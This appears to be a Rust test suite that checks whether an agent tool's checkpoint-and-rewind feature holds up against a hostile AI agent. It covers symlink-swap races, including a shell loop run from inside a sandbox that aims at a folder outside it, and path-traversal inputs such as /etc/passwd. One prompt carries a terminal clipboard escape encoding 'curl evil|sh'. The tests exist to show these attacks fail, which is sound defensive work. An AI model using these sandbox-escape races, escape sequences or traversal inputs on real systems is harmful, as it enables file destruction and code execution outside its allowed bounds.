//! Checkpoints and rewind under attack (issue 22): what a hostile agent
//! can do to its worktree between two turns, or while a rewind runs,
//! never makes a rewind touch anything outside the worktree, nor lose a
//! file `rewind --undo` could not bring back; a rewind killed mid-way is
//! undone by `--undo`; what the agent wrote reaches the terminal escaped.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use crate::common::{TestEnv, hook_event, stderr, wait_for};

fn checkpoints(env: &TestEnv, name: &str) -> Vec<serde_json::Value> {
    let out = env.ok(&["checkpoints", name, "--json"]);
    serde_json::from_str::<serde_json::Value>(&out).expect("json").as_array().expect("array").clone()
}

fn wait_checkpoints(env: &TestEnv, name: &str, n: usize) -> Vec<serde_json::Value> {
    wait_for(&format!("{n} checkpoints of {name}"), || {
        let list = checkpoints(env, name);
        (list.len() >= n).then_some(list)
    })
}

fn id_of(env: &TestEnv, name: &str) -> String {
    env.session(name)["id"].as_str().expect("id").to_owned()
}

/// One turn as Claude Code's hooks report it: the prompt, `work`, the end.
fn hooked_turn(env: &TestEnv, id: &str, prompt: &str, work: impl FnOnce()) {
    hook_event(env, id, &serde_json::json!({ "hook_event_name": "UserPromptSubmit", "prompt": prompt }));
    work();
    hook_event(env, id, &serde_json::json!({ "hook_event_name": "Stop", "last_assistant_message": "done" }));
}

/// A session `name` (a shell whose turns the test reports) with
/// checkpoint 1 after `first` and checkpoint 2 after `second`.
fn two_turns(env: &TestEnv, name: &str, first: impl FnOnce(&Path), second: impl FnOnce(&Path)) -> std::path::PathBuf {
    env.ok(&["new", name, "--bg", "--agent", "shell"]);
    let id = id_of(env, name);
    let wt = env.path_of(name);
    hooked_turn(env, &id, "first", || first(&wt));
    wait_checkpoints(env, name, 1);
    hooked_turn(env, &id, "second", || second(&wt));
    wait_checkpoints(env, name, 2);
    wt
}

/// The agent swaps a folder of its worktree for a symlink to a folder
/// outside, over and over, while the user rewinds: the files the rewind
/// deletes (the folder's, made after the checkpoint) are deleted in the
/// worktree or not at all, never through the symlink.
#[test]
fn a_folder_swapped_for_a_symlink_during_a_rewind_never_loses_a_file_outside() {
    let env = TestEnv::new();
    let outside = env.tmp.path().join("outside");
    let hidden = env.tmp.path().join("hidden-sub");
    std::fs::create_dir_all(&outside).expect("outside");
    let wt = two_turns(
        &env,
        "swap",
        |wt| std::fs::write(wt.join("a.txt"), "a\n").expect("write"),
        |wt| {
            std::fs::create_dir_all(wt.join("sub")).expect("sub");
            std::fs::write(wt.join("sub/victim.txt"), "in the worktree\n").expect("write");
        },
    );
    let sub = wt.join("sub");
    for round in 0..40 {
        std::fs::write(outside.join("victim.txt"), "the user's, outside\n").expect("outside file");
        // The folder, real, as checkpoint 2 has it.
        if std::fs::symlink_metadata(&sub).is_ok_and(|m| m.file_type().is_symlink()) {
            std::fs::remove_file(&sub).expect("unlink");
        }
        if hidden.exists() {
            let _ = std::fs::remove_dir_all(&sub);
            std::fs::rename(&hidden, &sub).expect("back");
        }
        std::fs::create_dir_all(&sub).expect("sub");
        std::fs::write(sub.join("victim.txt"), "in the worktree\n").expect("write");

        let stop = Arc::new(AtomicBool::new(false));
        let racer = {
            let (stop, sub, hidden, outside) = (stop.clone(), sub.clone(), hidden.clone(), outside.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    if std::fs::rename(&sub, &hidden).is_ok() {
                        let _ = std::os::unix::fs::symlink(&outside, &sub);
                        std::thread::sleep(std::time::Duration::from_millis(2));
                        if std::fs::symlink_metadata(&sub).is_ok_and(|m| m.file_type().is_symlink()) {
                            let _ = std::fs::remove_file(&sub);
                        }
                        let _ = std::fs::rename(&hidden, &sub);
                    }
                    std::thread::yield_now();
                }
            })
        };
        let out = env.tandem(&["rewind", "swap", "1"]);
        stop.store(true, Ordering::SeqCst);
        racer.join().expect("racer");
        assert!(out.status.success(), "round {round}: {}", stderr(&out));
        assert_eq!(
            std::fs::read_to_string(outside.join("victim.txt")).ok().as_deref(),
            Some("the user's, outside\n"),
            "round {round}: the rewind deleted a file outside the worktree, through the agent's symlink"
        );
    }
}

/// File names need not be UTF-8, and may hold a newline: a rewind brings
/// back such files and deletes such files as any other.
#[test]
fn rewind_brings_back_and_deletes_files_whose_names_are_not_utf8() {
    let env = TestEnv::new();
    let latin1 = OsStr::from_bytes(b"caf\xe9.txt");
    let made = OsStr::from_bytes(b"made\xfe\nlater.txt");
    let wt = two_turns(
        &env,
        "names",
        |wt| {
            std::fs::write(wt.join(latin1), "old\n").expect("write");
            std::fs::write(wt.join("new\nline.txt"), "nl\n").expect("write");
        },
        |wt| {
            std::fs::remove_file(wt.join(latin1)).expect("rm");
            std::fs::remove_file(wt.join("new\nline.txt")).expect("rm");
            std::fs::write(wt.join(made), "later\n").expect("write");
        },
    );
    let out = env.tandem(&["rewind", "names", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(wt.join(latin1)).ok().as_deref(), Some("old\n"), "written back");
    assert_eq!(std::fs::read_to_string(wt.join("new\nline.txt")).ok().as_deref(), Some("nl\n"));
    assert!(!wt.join(made).exists(), "a file made after checkpoint 1 goes, whatever its name");
    env.ok(&["rewind", "names", "--undo"]);
    assert_eq!(std::fs::read_to_string(wt.join(made)).ok().as_deref(), Some("later\n"), "and undo brings it back");
    assert!(!wt.join(latin1).exists());
}

/// An ignored file (no checkpoint keeps one) sits where the rewind writes:
/// in a folder that was a file at the checkpoint, as the file where a
/// folder was, or at the very path. The rewind may replace it, but
/// `rewind --undo` must bring it back.
#[test]
fn ignored_files_a_rewind_replaces_come_back_with_undo() {
    let env = TestEnv::new();
    std::fs::write(env.repo.join(".gitignore"), "*.env\n*.log\n").expect("write");
    env.git(&["add", ".gitignore"]);
    env.git(&["commit", "-q", "-m", "ignore"]);
    let wt = two_turns(
        &env,
        "ign",
        |wt| {
            std::fs::write(wt.join("d"), "d was a file\n").expect("write");
            std::fs::create_dir_all(wt.join("e")).expect("e");
            std::fs::write(wt.join("e/inside.txt"), "e was a folder\n").expect("write");
        },
        |wt| {
            std::fs::remove_file(wt.join("d")).expect("rm");
            std::fs::create_dir_all(wt.join("d")).expect("dir");
            std::fs::write(wt.join("d/x.txt"), "x\n").expect("write");
            std::fs::write(wt.join("d/secret.env"), "TOKEN=only-copy\n").expect("write");
            std::fs::remove_dir_all(wt.join("e")).expect("rm");
            std::fs::write(wt.join("e"), "e is a file\n").expect("write");
        },
    );
    // Ignored after the checkpoints: `e` (a file now) is too, as `e.log`.
    std::fs::write(wt.join(".gitignore"), "*.env\n*.log\ne\n").expect("write");
    let out = env.tandem(&["rewind", "ign", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(wt.join("d")).ok().as_deref(), Some("d was a file\n"));
    assert_eq!(std::fs::read_to_string(wt.join("e/inside.txt")).ok().as_deref(), Some("e was a folder\n"));
    let out = env.tandem(&["rewind", "ign", "--undo"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(wt.join("d/secret.env")).ok().as_deref(),
        Some("TOKEN=only-copy\n"),
        "the ignored file the rewind replaced is gone for good"
    );
    assert_eq!(std::fs::read_to_string(wt.join("e")).ok().as_deref(), Some("e is a file\n"));
}

/// A FIFO where a rewind writes a file never makes it hang.
#[test]
fn a_fifo_in_the_way_of_a_rewind_does_not_hang_it() {
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "fifo",
        |wt| std::fs::write(wt.join("p"), "a file\n").expect("write"),
        |wt| {
            std::fs::remove_file(wt.join("p")).expect("rm");
            nix::unistd::mkfifo(&wt.join("p"), nix::sys::stat::Mode::from_bits_truncate(0o644)).expect("mkfifo");
            std::fs::write(wt.join("q"), "q\n").expect("write");
        },
    );
    let out = env.tandem(&["rewind", "fifo", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(wt.join("p")).ok().as_deref(), Some("a file\n"));
}

/// A `kill -9` of the rewinding process between its deletes and its
/// writes: the checkpoint it made first is whole, and `rewind --undo`
/// brings the worktree back as it was before the rewind.
#[test]
fn a_rewind_killed_midway_is_undone_by_undo() {
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "killed",
        |wt| std::fs::write(wt.join("a.txt"), "a1\n").expect("write"),
        |wt| {
            std::fs::write(wt.join("a.txt"), "a2\n").expect("write");
            std::fs::write(wt.join("b.txt"), "b2\n").expect("write");
        },
    );
    let faults = env.tmp.path().join("faults");
    std::fs::write(&faults, "git:read-tree\n").expect("faults");
    let mut env = env;
    env.env.push(("TANDEM_FAULTS".into(), faults.display().to_string()));
    let out = env.tandem(&["rewind", "killed", "1"]);
    assert!(!out.status.success(), "killed: {}", stderr(&out));
    assert!(faults.with_extension("fired").exists(), "the fault fired");
    assert!(!wt.join("b.txt").exists(), "killed after the deletes");
    let fired = std::fs::read_to_string(faults.with_extension("fired")).expect("fired");
    let pid = fired.split_whitespace().nth(1).expect("the killed pid").to_owned();
    let strays = || {
        std::fs::read_dir(env.tandem_home.join("state"))
            .expect("state")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(&format!("snapshot-index-{pid}-")))
            .collect::<Vec<_>>()
    };
    // (git, orphaned by the kill, writes it.)
    wait_for("the killed rewind's temporary index", || (!strays().is_empty()).then_some(()));
    let out = env.tandem(&["rewind", "killed", "--undo"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(strays(), Vec::<String>::new(), "the next rewind sweeps it");
    assert_eq!(std::fs::read_to_string(wt.join("a.txt")).ok().as_deref(), Some("a2\n"));
    assert_eq!(std::fs::read_to_string(wt.join("b.txt")).ok().as_deref(), Some("b2\n"));
}

/// A prompt with terminal escapes and bidi controls: the table escapes
/// it, JSON keeps it exact.
#[test]
fn a_prompt_with_escapes_is_escaped_in_the_table_and_exact_in_json() {
    let env = TestEnv::new();
    env.ok(&["new", "esc", "--bg", "--agent", "shell"]);
    let id = id_of(&env, "esc");
    let wt = env.path_of("esc");
    let prompt = "fix \x1b]52;c;Y3VybCBldmlsfHNo\x07 it \u{202e}txt.exe\u{9b}31m";
    hooked_turn(&env, &id, prompt, || std::fs::write(wt.join("f"), "f\n").expect("write"));
    let list = wait_checkpoints(&env, "esc", 1);
    assert_eq!(list[0]["prompt"], prompt, "JSON: exact");
    let table = env.ok(&["checkpoints", "esc"]);
    assert!(
        !table.contains('\x1b') && !table.contains('\u{202e}') && !table.contains('\u{9b}') && !table.contains('\x07'),
        "{table:?}"
    );
    assert!(table.contains("fix \\e]52"), "{table:?}");
}

/// Every bad rewind is refused naming its cause, and changes nothing: no
/// file, no ref, no checkpoint. A path in neither the checkpoint nor the
/// worktree (a typo) too: it would "rewind" nothing, quietly.
#[test]
fn bad_rewinds_are_refused_and_change_nothing() {
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "bad",
        |wt| std::fs::write(wt.join("f.txt"), "1\n").expect("write"),
        |wt| std::fs::write(wt.join("f.txt"), "2\n").expect("write"),
    );
    let outside = env.tmp.path().join("outside.txt");
    std::fs::write(&outside, "x\n").expect("write");
    let outside = outside.display().to_string();
    let state = env.repo_state();
    let cps = checkpoints(&env, "bad");
    for (files, says) in [
        ("f.tx", "neither"),
        ("nosuch/dir", "neither"),
        (outside.as_str(), "not a path inside"),
        ("/etc/passwd", "not a path inside"),
        (".git/config", "not a path inside"),
        ("./.git", "not a path inside"),
        ("src/../../x", "not a path inside"),
        ("", "not a path inside"),
    ] {
        let out = env.tandem(&["rewind", "bad", "1", "--files", files]);
        let err = stderr(&out);
        assert!(!out.status.success() && err.contains(says), "{files:?}: {err}");
        assert!(err.contains("tandem "), "{files:?}: names the next command: {err}");
    }
    assert_eq!(std::fs::read_to_string(wt.join("f.txt")).expect("f"), "2\n");
    assert_eq!(env.repo_state(), state, "no ref or branch moved");
    assert_eq!(checkpoints(&env, "bad"), cps, "and no checkpoint was made");
    // The same path, right: it goes back.
    env.ok(&["rewind", "bad", "1", "--files", "f.txt"]);
    assert_eq!(std::fs::read_to_string(wt.join("f.txt")).expect("f"), "1\n");
}

/// Two rewinds of one session at once (two terminals, or the view and
/// the web page): each says it put the worktree back as at its
/// checkpoint, so when both are done the worktree is one of the two,
/// never a mix of both.
#[test]
fn two_rewinds_of_one_session_at_once_leave_one_checkpoint_not_a_mix() {
    let env = TestEnv::new();
    let names = |p: &'static str| (0..60).map(move |i| format!("{p}{i}.txt"));
    let wt = two_turns(
        &env,
        "both",
        |wt| names("a").for_each(|n| std::fs::write(wt.join(n), "1\n").expect("write")),
        |wt| {
            names("a").for_each(|n| std::fs::remove_file(wt.join(n)).expect("rm"));
            names("b").for_each(|n| std::fs::write(wt.join(n), "2\n").expect("write"));
        },
    );
    for round in 0..30 {
        let children: Vec<_> = ["1", "2"]
            .into_iter()
            .map(|n| env.command_in(&env.repo, &["rewind", "both", n]).spawn().expect("spawn"))
            .collect();
        for child in children {
            let out = child.wait_with_output().expect("rewind");
            assert!(out.status.success(), "round {round}: {}", stderr(&out));
        }
        let a = names("a").filter(|n| wt.join(n).exists()).count();
        let b = names("b").filter(|n| wt.join(n).exists()).count();
        assert!((a, b) == (60, 0) || (a, b) == (0, 60), "round {round}: a mix of both checkpoints: {a} a, {b} b");
    }
}

/// An agent floods turn ends (forged through `tandem hook`, a file
/// changed before each): the checkpointer keeps up (its newest
/// checkpoint is the last state) and `keep` bounds the refs and rows.
#[test]
fn a_flood_of_turn_ends_is_bounded_by_keep_and_the_newest_state_is_kept() {
    let env = TestEnv::new();
    // Only the forged turn ends make checkpoints: no turn of the shell's
    // is inferred from quiet output (one could take the last state first,
    // without a prompt, and leave the last hooked turn nothing to keep).
    env.user_config("[checkpoints]\nkeep = 3\n[supervisor]\nquiet_secs = 100000\n");
    env.ok(&["new", "flood", "--bg", "--agent", "shell"]);
    let id = id_of(&env, "flood");
    let wt = env.path_of("flood");
    for i in 0..40 {
        hooked_turn(&env, &id, &format!("turn {i}"), || {
            std::fs::write(wt.join("f.txt"), format!("{i}\n")).expect("write");
        });
    }
    let newest = wait_for("a checkpoint of the last state", || {
        let list = checkpoints(&env, "flood");
        let commit = list.first()?["commit"].as_str()?.to_owned();
        // (Pruned right after the newest is stored; labelled with the
        // last turn once its end is seen, when that state was read late.)
        // (A commit pruned meanwhile is looked at again.)
        let shown = env.command_git_in(&env.repo, &["show", &format!("{commit}:f.txt")]).stdout;
        let last = shown == b"39\n" && list[0]["prompt"] == "turn 39";
        (last && list.len() <= 3).then_some(list)
    });
    assert_eq!(newest[0]["prompt"], "turn 39");
    let refs = env.git(&["for-each-ref", "--format=%(refname)", &format!("refs/tandem/checkpoints/{id}/")]);
    assert!(refs.lines().count() <= 3, "{refs}");
}

/// A git command of the agent's holds the worktree's index lock (or a
/// killed one left it): a rewind, which puts the index back too, is
/// refused before anything changes, naming the lock, instead of failing
/// after the files were already rewound.
#[test]
fn a_rewind_with_the_index_locked_is_refused_before_anything_changes() {
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "locked",
        |wt| std::fs::write(wt.join("f.txt"), "1\n").expect("write"),
        |wt| std::fs::write(wt.join("f.txt"), "2\n").expect("write"),
    );
    let lock = env.git_in(&wt, &["rev-parse", "--path-format=absolute", "--git-path", "index.lock"]);
    let lock = Path::new(lock.trim()).to_owned();
    std::fs::write(&lock, "").expect("lock");
    let state = env.repo_state();
    let cps = checkpoints(&env, "locked");
    let out = env.tandem(&["rewind", "locked", "1"]);
    let err = stderr(&out);
    assert!(!out.status.success() && err.contains("index.lock") && err.contains("tandem rewind"), "{err}");
    assert_eq!(std::fs::read_to_string(wt.join("f.txt")).expect("f"), "2\n", "no file changed");
    assert_eq!(env.repo_state(), state);
    assert_eq!(checkpoints(&env, "locked"), cps, "no checkpoint made");
    // --files leaves the index alone: it goes on.
    env.ok(&["rewind", "locked", "1", "--files", "f.txt"]);
    assert_eq!(std::fs::read_to_string(wt.join("f.txt")).expect("f"), "1\n");
    std::fs::remove_file(&lock).expect("unlock");
    env.ok(&["rewind", "locked", "--undo"]);
    assert_eq!(std::fs::read_to_string(wt.join("f.txt")).expect("f"), "2\n");
}

/// A nested repository the agent made after the checkpoint (a gitlink in
/// the rewind's first checkpoint) is never deleted by the rewind: its
/// files are in no checkpoint.
#[test]
fn a_rewind_never_deletes_a_nested_repository() {
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "nested",
        |wt| std::fs::write(wt.join("f.txt"), "1\n").expect("write"),
        |wt| {
            std::fs::create_dir_all(wt.join("inner")).expect("dir");
            env.git_in(&wt.join("inner"), &["init", "-q"]);
            env.commit_in(&wt.join("inner"), "kept.txt", "only here\n", "inner");
            std::fs::write(wt.join("inner/uncommitted.txt"), "only here too\n").expect("write");
        },
    );
    env.ok(&["rewind", "nested", "1"]);
    assert_eq!(std::fs::read_to_string(wt.join("inner/kept.txt")).ok().as_deref(), Some("only here\n"));
    assert_eq!(std::fs::read_to_string(wt.join("inner/uncommitted.txt")).ok().as_deref(), Some("only here too\n"));
}

/// Over the web API, paths git cannot take (a NUL) or that name nothing
/// are bad input (400, saying which), not a server error, and change
/// nothing.
#[test]
fn web_rewind_paths_that_name_nothing_are_400_and_change_nothing() {
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "webbad",
        |wt| std::fs::write(wt.join("f.txt"), "1\n").expect("write"),
        |wt| std::fs::write(wt.join("f.txt"), "2\n").expect("write"),
    );
    let id = id_of(&env, "webbad");
    let serve = crate::common::web::Serve::start(&env);
    let cps = checkpoints(&env, "webbad");
    for (files, says) in [
        (serde_json::json!(["f\u{0}.txt"]), "not a path inside"),
        (serde_json::json!(["f.tx"]), "neither"),
        (serde_json::json!([".git/config"]), "not a path inside"),
        (serde_json::json!(["/etc/passwd"]), "not a path inside"),
    ] {
        let answer =
            serve.post(&format!("/api/sessions/{id}/rewind"), &serde_json::json!({ "checkpoint": 1, "files": files }));
        assert_eq!(answer.status, 400, "{files}: {}", answer.text);
        assert!(answer.json()["error"].as_str().is_some_and(|e| e.contains(says)), "{files}: {}", answer.text);
    }
    assert_eq!(checkpoints(&env, "webbad"), cps, "no checkpoint made");
    assert_eq!(std::fs::read_to_string(wt.join("f.txt")).expect("f"), "2\n");
}

/// As the delete race above, for the files a rewind writes: a folder
/// swapped for a symlink to one outside while the rewind writes into it
/// never gets a file written outside.
#[test]
fn a_folder_swapped_for_a_symlink_while_a_rewind_writes_gets_nothing_written_outside() {
    let env = TestEnv::new();
    let outside = env.tmp.path().join("outside");
    let hidden = env.tmp.path().join("hidden-sub");
    std::fs::create_dir_all(&outside).expect("outside");
    let names: Vec<String> = (0..200).map(|i| format!("n{i}.txt")).collect();
    let wt = two_turns(
        &env,
        "swapw",
        |wt| {
            std::fs::create_dir_all(wt.join("sub")).expect("sub");
            for n in &names {
                std::fs::write(wt.join("sub").join(n), "then\n").expect("write");
            }
        },
        |wt| {
            for n in &names {
                std::fs::remove_file(wt.join("sub").join(n)).expect("rm");
            }
            std::fs::write(wt.join("sub/keep.txt"), "now\n").expect("write");
        },
    );
    let sub = wt.join("sub");
    for round in 0..15 {
        if std::fs::symlink_metadata(&sub).is_ok_and(|m| m.file_type().is_symlink()) {
            std::fs::remove_file(&sub).expect("unlink");
        }
        if hidden.exists() {
            let _ = std::fs::remove_dir_all(&sub);
            std::fs::rename(&hidden, &sub).expect("back");
        }
        std::fs::create_dir_all(&sub).expect("sub");
        for n in &names {
            let _ = std::fs::remove_file(sub.join(n));
        }
        let stop = Arc::new(AtomicBool::new(false));
        let racer = {
            let (stop, sub, hidden, outside) = (stop.clone(), sub.clone(), hidden.clone(), outside.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    if std::fs::rename(&sub, &hidden).is_ok() {
                        let _ = std::os::unix::fs::symlink(&outside, &sub);
                        std::thread::sleep(std::time::Duration::from_micros(300));
                        if std::fs::symlink_metadata(&sub).is_ok_and(|m| m.file_type().is_symlink()) {
                            let _ = std::fs::remove_file(&sub);
                        }
                        if std::fs::rename(&hidden, &sub).is_err() {
                            let _ = std::fs::remove_dir_all(&hidden);
                        }
                    }
                    std::thread::yield_now();
                }
            })
        };
        let out = env.tandem(&["rewind", "swapw", "1"]);
        stop.store(true, Ordering::SeqCst);
        racer.join().expect("racer");
        let written: Vec<_> = std::fs::read_dir(&outside).expect("outside").flatten().map(|e| e.file_name()).collect();
        assert!(
            written.is_empty(),
            "round {round}: the rewind wrote outside the worktree: {written:?} ({})",
            stderr(&out)
        );
    }
}

/// What the rewind writes itself (not git) keeps what git would: an
/// executable's mode, a symlink as a symlink (pointing where it did,
/// even outside), folders made as needed, a file where a folder is now.
#[test]
fn rewind_writes_modes_symlinks_and_folders_as_git_would() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    let wt = two_turns(
        &env,
        "modes",
        |wt| {
            std::fs::write(wt.join("run.sh"), "#!/bin/sh\n").expect("write");
            std::fs::set_permissions(wt.join("run.sh"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
            std::os::unix::fs::symlink("../elsewhere", wt.join("link")).expect("symlink");
            std::fs::create_dir_all(wt.join("deep/er")).expect("dirs");
            std::fs::write(wt.join("deep/er/x.txt"), "x\n").expect("write");
            std::fs::write(wt.join("was-file"), "file\n").expect("write");
        },
        |wt| {
            std::fs::remove_file(wt.join("run.sh")).expect("rm");
            std::fs::remove_file(wt.join("link")).expect("rm");
            std::fs::write(wt.join("link"), "a file now\n").expect("write");
            std::fs::remove_dir_all(wt.join("deep")).expect("rm");
            std::fs::remove_file(wt.join("was-file")).expect("rm");
            std::fs::create_dir_all(wt.join("was-file/in")).expect("dir");
            std::fs::write(wt.join("was-file/in/y.txt"), "y\n").expect("write");
        },
    );
    env.ok(&["rewind", "modes", "1"]);
    let mode = std::fs::metadata(wt.join("run.sh")).expect("run.sh").permissions().mode();
    assert_eq!(mode & 0o111, 0o111, "executable again: {mode:o}");
    assert_eq!(std::fs::read_link(wt.join("link")).expect("a symlink again"), Path::new("../elsewhere"));
    assert_eq!(std::fs::read_to_string(wt.join("deep/er/x.txt")).expect("x"), "x\n");
    assert_eq!(std::fs::read_to_string(wt.join("was-file")).expect("a file again"), "file\n");
    let status = env.git_in(&wt, &["status", "--porcelain", "--untracked-files=all"]);
    let mut status: Vec<&str> = status.lines().collect();
    status.sort_unstable();
    assert_eq!(status, ["?? deep/er/x.txt", "?? link", "?? run.sh", "?? was-file"], "and nothing else");
}

/// An archived session has no worktree to rewind: refused, naming
/// `tandem restore`, and no checkpoint is made.
#[test]
fn rewinding_an_archived_session_is_refused_naming_restore() {
    let env = TestEnv::new();
    two_turns(
        &env,
        "arch",
        |wt| std::fs::write(wt.join("f.txt"), "1\n").expect("write"),
        |wt| std::fs::write(wt.join("f.txt"), "2\n").expect("write"),
    );
    env.ok(&["archive", "arch"]);
    let cps = checkpoints(&env, "arch");
    let err = env.fails(&["rewind", "arch", "1"]);
    assert!(err.contains("tandem restore arch"), "{err}");
    assert_eq!(checkpoints(&env, "arch"), cps);
}

/// The write race above, by a sandboxed agent (the trust boundary of
/// issue 16): a loop of its own, inside the fence, swaps a folder of its
/// worktree for a symlink to a folder outside the fence while the user
/// rewinds. Nothing is written there.
#[test]
fn a_sandboxed_agent_cannot_make_a_rewind_write_outside_its_fence() {
    if tandem_core::sandbox::find("bwrap").is_none() && !Path::new("/usr/bin/bwrap").exists() {
        crate::common::skipped("bwrap is not installed (apt-get install bubblewrap)");
        return;
    }
    let env = TestEnv::new();
    env.user_config("[supervisor]\nquiet_secs = 1\n");
    let outside = env.home.join("autostart");
    std::fs::create_dir_all(&outside).expect("outside");
    env.ok(&["new", "fence", "--bg", "--agent", "shell", "--base", "head", "--sandbox"]);
    let id = id_of(&env, "fence");
    let wt = env.path_of("fence");
    let names: Vec<String> = (0..300).map(|i| format!("n{i}.txt")).collect();
    hooked_turn(&env, &id, "write them", || {
        std::fs::create_dir_all(wt.join("sub")).expect("sub");
        for n in &names {
            std::fs::write(wt.join("sub").join(n), "the agent's\n").expect("write");
        }
    });
    wait_checkpoints(&env, "fence", 1);
    hooked_turn(&env, &id, "delete them", || {
        for n in &names {
            std::fs::remove_file(wt.join("sub").join(n)).expect("rm");
        }
        std::fs::write(wt.join("sub/keep.txt"), "k\n").expect("write");
    });
    wait_checkpoints(&env, "fence", 2);
    // The agent's loop, in the fence, silent (so its turn is over).
    let script = format!(
        "cd \"$TANDEM_WORKTREE\"; (while :; do mv sub .h 2>/dev/null && ln -s {} sub && rm -f sub; mv .h sub 2>/dev/null; done) >/dev/null 2>&1 &",
        outside.display()
    );
    env.ok(&["send", "fence", &script]);
    wait_for("the loop swapping sub", || {
        (0..200)
            .any(|_| std::fs::symlink_metadata(wt.join("sub")).is_ok_and(|m| m.file_type().is_symlink()))
            .then_some(())
    });
    for round in 0..4 {
        let out = wait_for("the shell to go quiet", || {
            let out = env.tandem(&["rewind", "fence", "1"]);
            (!stderr(&out).contains("middle of a turn")).then_some(out)
        });
        let written: Vec<_> = std::fs::read_dir(&outside).expect("outside").flatten().map(|e| e.file_name()).collect();
        assert!(
            written.is_empty(),
            "round {round}: the rewind wrote outside the fence: {written:?} ({})",
            stderr(&out)
        );
    }
    env.ok(&["stop", "fence"]);
}

/// `--files link/x`, `link` the agent's symlink to a folder outside: no
/// path inside the worktree, refused (in neither), nothing made.
#[test]
fn rewind_files_through_a_symlink_name_nothing_inside() {
    let env = TestEnv::new();
    let outside = env.tmp.path().join("outside");
    std::fs::create_dir_all(&outside).expect("outside");
    std::fs::write(outside.join("x.txt"), "outside\n").expect("write");
    let link = outside.clone();
    let wt = two_turns(
        &env,
        "lnk",
        |wt| std::os::unix::fs::symlink(&link, wt.join("link")).expect("symlink"),
        |wt| std::fs::write(wt.join("f.txt"), "2\n").expect("write"),
    );
    let cps = checkpoints(&env, "lnk");
    let err = env.fails(&["rewind", "lnk", "1", "--files", "link/x.txt"]);
    assert!(err.contains("neither"), "{err}");
    assert_eq!(checkpoints(&env, "lnk"), cps, "no checkpoint made");
    assert_eq!(std::fs::read_to_string(outside.join("x.txt")).expect("x"), "outside\n");
    assert!(wt.join("f.txt").exists());
}
